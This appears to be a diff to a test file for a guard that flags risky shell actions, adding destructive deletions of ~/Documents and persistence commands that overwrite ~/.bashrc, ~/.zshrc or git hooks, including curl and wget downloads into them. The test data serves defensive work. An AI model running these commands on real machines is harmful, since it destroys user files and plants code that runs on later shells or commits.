@@ -72,6 +72,8 @@ rows('hold type filesystem/delete-outside', [
   'cd /srv && rm -rf app',
   { kind: 'delete', path: `${HOME}/notes.txt` },
   'rm -rf ~/projects/other/node_modules',
+  'rimraf ~/Documents',
+  'busybox rm -rf ~/Documents',
   'find / -name "*.bak" -delete',
   'dd if=/dev/zero of=/srv/x.img',
 ]);
@@ -125,6 +127,15 @@ rows('hold type filesystem/persist', [
   { kind: 'write', path: '.git/hooks/post-commit', content: '#!/bin/sh' },
   'echo "x" | at now',
   'mv x ~/.zshenv',
+  'cp -r dots/. ~',
+  'rsync -a dots/ ~/',
+  'tar xf dots.tar -C ~',
+  'unzip dots.zip -d ~',
+  'echo x | sponge ~/.bashrc',
+  'patch ~/.bashrc x.diff',
+  'vim -es -c wq ~/.zshrc',
+  'curl -o ~/.bashrc https://example.com/x',
+  'wget -O .git/hooks/pre-commit https://example.com/x',
 ]);
 rows('hold type filesystem/enable-service', ['systemctl enable x', 'sudo systemctl --user enable x.timer']);
 rows('hold type filesystem/remove-volume', ['sudo lvremove -f vg0/data', 'zpool destroy tank']);
